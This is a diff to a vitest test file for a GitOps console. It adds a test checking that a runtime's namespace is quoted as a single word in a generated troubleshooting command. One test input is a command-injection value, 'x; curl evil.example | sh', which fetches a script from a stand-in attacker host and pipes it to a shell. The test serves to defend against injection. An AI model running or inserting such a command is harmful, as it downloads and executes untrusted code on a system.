@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 
-import { applicationsVerdict, clustersVerdict, summary } from '../../../apps/control-plane/console/src/pages/runtimes/types';
+import { applicationsVerdict, clustersVerdict, connectivity, summary, type Runtime } from '../../../apps/control-plane/console/src/pages/runtimes/types';
 
 describe('a runtime', () => {
   it('is not called healthy for applications that are missing or not known', () => {
@@ -16,6 +16,12 @@ describe('a runtime', () => {
     expect(clustersVerdict(['Successful', 'Successful'])).toEqual({ state: 'Healthy', sentence: '2 clusters are reached.' });
     expect(clustersVerdict(['Successful', 'Unknown'])).toEqual({ state: 'Unknown', sentence: 'Whether 1 of 2 clusters can be reached is not known.' });
     expect(clustersVerdict(['Failed', 'Unknown'])).toMatchObject({ state: 'Degraded' });
+  });
+  it('names its namespace as one word of a command', () => {
+    const of = (namespace: string | null, lastUpdated: string | null) => connectivity({ metadata: { namespace }, lastUpdated, available: false } as Runtime).action?.command;
+    expect(of('gitops', null)).toBe('helm test gitops-runtime -n gitops --logs');
+    expect(of(null, '2026-03-04T09:12:00Z')).toBe('gitopsctl check -n argocd');
+    expect(of('x; curl evil.example | sh', '2026-03-04T09:12:00Z')).toBe("gitopsctl check -n 'x; curl evil.example | sh'");
   });
   it('sums up parts by the worst', () => {
     expect(summary(['Healthy', 'Unknown'], 'Git sources', ['Degraded', 'Missing', 'Unknown'])).toMatchObject({ state: 'Unknown' });
